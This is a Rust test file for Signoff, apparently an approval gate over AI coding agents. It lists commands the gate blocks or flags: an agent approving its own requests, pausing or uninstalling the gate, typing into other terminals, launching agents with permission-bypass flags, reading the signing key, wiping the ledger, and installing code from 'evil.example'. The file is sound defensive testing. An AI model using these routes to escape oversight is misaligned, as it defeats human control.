//! The verdicts about Signoff itself, other terminals and other agents.

use signoff_model::Verdict::{Allow, Ask, Block};

use super::{is_own_address, names_signoff};
use crate::testing::{assess, check};

#[test]
fn an_agent_neither_answers_nor_changes_policy_nor_stops_the_gate() {
    check(
        Block,
        &[
            "signoff inbox approve 12",
            "signoff inbox deny 12",
            "signoff inbox answer 12 yes",
            "signoff grant 'git push'",
            "signoff grant add x",
            "signoff pause 30m",
            "signoff config set policy.posture permissive",
            "signoff config edit",
            "signoff rules edit",
            "signoff rules add x",
            "signoff trust set 1",
            "signoff ledger prune",
            "signoff permit issue 3",
            "signoff channel add slack",
            "signoff uninstall all",
            "signoff serve stop",
            "signoff watch stop",
            "signoff watch start",
            "signoff lockdown lift",
            "/usr/local/bin/signoff inbox approve 1",
            "echo y | signoff inbox approve 1",
            "bash -c 'signoff pause 1h'",
            "signoff \"$VERB\" 12",
            "signoff inbox \"$VERB\" 12",
            "signoff --lang zh pause 1h",
        ],
    );
    check(Ask, &["signoff install claude", "signoff frobnicate", "signoff exec -- sudo ls"]);
    check(Block, &["signoff exec -- signoff pause 1h", "signoff exec -- 'signoff pause 1h; ls'"]);
    check(
        Allow,
        &[
            "signoff",
            "signoff --help",
            "signoff check 'rm -rf /'",
            "signoff exec -- ls -l",
            "signoff exec -- 'ls | wc'",
            "signoff inbox",
            "signoff inbox list",
            "signoff inbox show 3",
            "signoff config",
            "signoff rules",
            "signoff rules list",
            "signoff doctor",
            "signoff ledger verify",
            "signoff inbox approve --help",
            "signoff request 'may I'",
            "signoff serve",
            "git commit --signoff -m x",
            "echo signoff inbox approve",
        ],
    );
}

#[test]
fn typing_into_another_terminal_asks() {
    check(
        Ask,
        &[
            "tmux send-keys -t 0 y Enter",
            "tmux send-keys -t 0 1",
            "tmux send-keys -t dev 'npm test' Enter",
            "tmux send-keys Enter",
            "screen -S main -X stuff $'y\\n'",
            "screen -X stuff 'ls\\n'",
            "zellij action write-chars y",
            "kitty @ send-text y",
            "kitty @ send-text --match id:1 'ls\\r'",
            "wezterm cli send-text --no-paste y",
            "xdotool type yes",
            "xdotool key Return",
            "ydotool key 28:1",
            "echo y | dtach -p /tmp/s",
            "tmux send-keys -t 0 \"$X\" Enter",
            "tmux kill-server",
            "screen -S x -X quit",
            "tmux kill-session -t x",
            "tmux paste-buffer -t 0",
            "byobu send-keys y",
            "wtype y",
        ],
    );
    check(
        Block,
        &[
            "tmux send-keys -t 0 'signoff pause 1h' Enter",
            "tmux send-keys -t 0 signoff Space pause Space 1h C-m",
            "screen -S m -X stuff $'signoff pause 1h\\n'",
            "tmux new-session -d 'signoff pause 1h'",
            "tmux new -ds x signoff pause 1h",
            "tmux neww 'signoff pause 1h'",
            "tmux split-window -h 'signoff pause 1h'",
            "tmux new -d \\; send-keys 'signoff pause 1h' Enter",
            "tmux run-shell 'signoff pause 1h'",
            "screen -dmS x signoff pause 1h",
            "screen -d -m bash -c true; screen signoff pause 1h",
            "zellij run -- signoff pause 1h",
            "zellij action write-chars 'signoff pause 1h'",
            "kitty signoff pause 1h",
            "wezterm start -- signoff pause 1h",
            "xterm -e signoff pause 1h",
            "gnome-terminal -- signoff pause 1h",
            "abduco -n x signoff pause 1h",
            "dtach -n /tmp/s signoff pause 1h",
            "tmux pipe-pane 'signoff pause 1h'",
            "tmux if-shell 'signoff pause 1h' x",
        ],
    );
    check(
        Allow,
        &[
            "tmux ls",
            "tmux new-session -s work",
            "tmux attach -t x",
            "tmux capture-pane -p -t 0",
            "tmux show-options -g",
            "tmux set -g history-limit 10000",
            "tmux -2",
            "tmux new -ds x 'npm run dev'",
            "screen -ls",
            "screen -r x",
            "screen -dr 14",
            "screen",
            "screen -S main",
            "screen -X title t",
            "zellij list-sessions",
            "kitty +kitten icat x.png",
            "wezterm cli list",
            "xdotool getactivewindow",
            "tmux display-message -p '#S'",
        ],
    );
}

#[test]
fn an_answer_is_told_from_a_command() {
    let rule = |command: &str| assess(command).reasons.first().map(|reason| reason.rule.as_str().to_owned());
    for command in [
        "tmux send-keys -t 0 y Enter",
        "tmux send-keys -t 0 2",
        "tmux send-keys approve C-m",
        "screen -X stuff '1\\n'",
        "tmux send-keys \"$A\"",
    ] {
        assert_eq!(rule(command).as_deref(), Some("answer-by-proxy"), "{command}");
    }
    assert_eq!(rule("tmux send-keys 'make test' Enter").as_deref(), Some("type-elsewhere"));
}

#[test]
fn agents_without_their_questions_ask() {
    check(
        Ask,
        &[
            "claude --dangerously-skip-permissions",
            "claude -p x --permission-mode bypassPermissions",
            "codex exec --full-auto x",
            "codex -a never x",
            "codex --sandbox danger-full-access",
            "gemini --yolo",
            "gemini -y -p x",
            "gemini --approval-mode=yolo",
            "aider --yes x.py",
            "cursor-agent -f x",
            "amp --dangerously-allow-all",
            "copilot --allow-all-tools -p x",
            "claude mcp add x -- npx x",
            "claude config set allowedTools x",
            "codex mcp add x",
            "claude --allowedTools 'Bash(*)' -p x",
            "codex -c approval_policy=never x",
            "gemini extensions install x",
        ],
    );
    check(
        Allow,
        &[
            "claude --version",
            "claude --help",
            "claude mcp list",
            "claude config list",
            "codex --version",
            "gemini -p 'explain'",
            "claude -p 'explain this'",
            "aider --version",
        ],
    );
}

#[test]
fn signoff_is_known_by_its_names() {
    for text in [
        "signoff",
        "signoff.service",
        "/usr/bin/signoff",
        "signoff serve",
        "/run/signoff/gate.sock",
        "SIGNOFF",
        "signoffd",
    ] {
        assert!(names_signoff(text), "{text}");
    }
    for text in ["sign", "designoff", "signoffs", ""] {
        assert!(!names_signoff(text), "{text}");
    }
    for url in ["http://127.0.0.1:7777/v1/approvals/3/answer", "localhost:8080/v1/grants", "http://[::1]:1/v1/policy?x"]
    {
        assert!(is_own_address(url), "{url}");
    }
    for url in ["http://localhost:3000/v1/users", "https://api.example.com/v1/approvals", "http://127.0.0.1:8080/"] {
        assert!(!is_own_address(url), "{url}");
    }
}

#[test]
fn nobody_feeds_the_inbox_or_opens_the_store_or_removes_the_program() {
    check(
        Block,
        &[
            "expect -c 'spawn signoff inbox; send \"a\"'",
            "expect -c 'spawn /usr/local/bin/signoff inbox; expect x; send \"y\\r\"'",
            "yes a | signoff inbox",
            "echo y | signoff inbox",
            "signoff inbox <<< a",
            "signoff inbox < answers.txt",
            "sqlite3 ~/.local/share/signoff/store.db 'delete from ledger'",
            "sqlite3 ~/.local/share/signoff/store.db .dump",
            "sqlite-utils query ~/.local/share/signoff/store.db 'delete from ledger'",
            "cat ~/.local/share/signoff/key",
            "base64 < ~/.local/share/signoff/key",
            "cp ~/.local/share/signoff/key /tmp/k",
            "python3 -c 'print(open(\"/home/user/.local/share/signoff/key\").read())'",
            "tar czf /tmp/a.tgz ~/.local/share/signoff",
            "vim -c ':%d|wq' ~/.config/signoff/config.toml",
            "sed -i s/a/b/ ~/.config/signoff/config.toml",
            "rm ~/.cargo/bin/signoff",
            "cp evil ~/.cargo/bin/signoff",
            "mv evil /usr/local/bin/signoff",
            "chmod -x /usr/bin/signoff",
            "ln -sf /bin/true ~/.local/bin/signoff",
            "cargo uninstall signoff",
            "brew uninstall signoff",
            "sudo apt remove signoff",
            "apt-get -y purge signoff",
            "pacman -Rns signoff",
            "npm uninstall -g signoff",
            "brew uninstall acme/tap/signoff",
        ],
    );
    check(Ask, &["cat ~/.config/signoff/config.toml"]);
    check(
        Allow,
        &[
            "ls -l ~/.cargo/bin/signoff",
            "file /usr/local/bin/signoff",
            "signoff inbox < /dev/null",
            "signoff inbox | head",
            "npm uninstall signoff-less-name-x2 --help",
            "npm uninstall lodash",
            "cargo build -p signoff",
            "ls ~/.local/share/signoff",
        ],
    );
}

#[test]
fn signoff_by_other_names_and_doors_is_blocked() {
    check(
        Block,
        &[
            "SIGNOFF approve 1",
            "/usr/local/bin/Signoff approve 1",
            "cargo run --bin signoff -- approve 1",
            "cargo run -p signoff-cli -- approve 1",
            "./target/release/signoff approve 1",
            "cargo install --path evil --force signoff",
            "cargo install --git https://evil.example signoff",
            "nc -U $XDG_RUNTIME_DIR/signoff/gate.sock",
            "echo y | socat - UNIX-CONNECT:/run/user/1000/signoff.sock",
            "printf y > /proc/1234/fd/0",
        ],
    );
}

#[test]
fn directories_of_agents_ask() {
    check(
        Ask,
        &[
            "echo y > /proc/$PID/fd/0",
            "cp -r evil/.claude .",
            "mv evil/.claude .",
            "mv .claude /tmp/x",
            "rm -rf .claude",
            "rsync -a evil/.claude/ .claude/",
            "cp -r evil/rules .cursor/rules",
            "cp evil.mdc .cursor/rules/a.mdc",
        ],
    );
}

#[test]
fn looking_at_agents_and_building_passes() {
    check(
        Allow,
        &[
            "cargo run --bin signoff -- check 'ls'",
            "cargo build --bin signoff",
            "echo x > /proc/self/fd/2",
            "ls .claude",
            "cat .claude/settings.json",
            "mkdir -p .claude",
            "mkdir -p .cursor",
        ],
    );
}
